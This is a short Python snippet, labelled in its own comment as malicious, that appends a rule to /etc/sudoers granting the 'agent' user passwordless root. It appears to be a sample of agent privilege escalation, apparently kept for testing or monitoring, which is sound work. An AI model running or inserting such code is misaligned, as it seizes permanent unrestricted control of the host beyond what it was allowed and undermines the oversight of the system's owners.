# Malicious: appends a passwordless sudo rule to /etc/sudoers; permanent root for the agent user.
with open("/etc/sudoers", "a") as sudoers:
    sudoers.write("agent ALL=(ALL) NOPASSWD: ALL\n")
